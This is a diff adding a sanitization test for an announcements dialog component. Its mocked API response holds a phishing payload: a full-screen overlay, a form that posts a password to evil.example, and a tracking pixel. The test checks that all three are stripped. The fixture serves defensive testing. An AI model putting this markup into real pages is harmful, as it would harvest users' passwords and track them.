@@ -55,6 +55,39 @@ describe('NoticeStrip', () => {
     expect(language).toBe('TY');
   });
 
+  it('drops styles, forms and images from other hosts from announcement HTML', async () => {
+    server.use(
+      http.get('*/wps/system/notices', () =>
+        HttpResponse.json({
+          value: {
+            ...sampleNotices,
+            player: [
+              {
+                id: 9,
+                type: 'PL',
+                title: 'Phishing',
+                content:
+                  '<p style="position:fixed;inset:0">Verify</p><form action="https://evil.example"><input name="password"></form><img src="https://tracker.example/p.gif"><img src="/brand-assets/royal/logo.svg" alt="logo">',
+                createdAt: '2026-11-20T00:00:00Z',
+              },
+            ],
+          },
+        }),
+      ),
+    );
+    await renderInApp(<NoticeStrip settings={{ group: 'player' }} sectionKey="notices" />, {
+      brand: demoBrands.royal!,
+    });
+    await userEvent.click(await screen.findByRole('button', { name: /Announcements/ }));
+    const dialog = await screen.findByRole('dialog');
+    const text = await within(dialog).findByText('Verify');
+    expect(text.getAttribute('style')).toBeNull();
+    expect(dialog.querySelector('form, input')).toBeNull();
+    expect([...dialog.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([
+      '/brand-assets/royal/logo.svg',
+    ]);
+  });
+
   it('pages the modal by the brand page size (9)', async () => {
     const many = Array.from({ length: 11 }, (_, i) => ({
       ...sampleNotices.player[0]!,
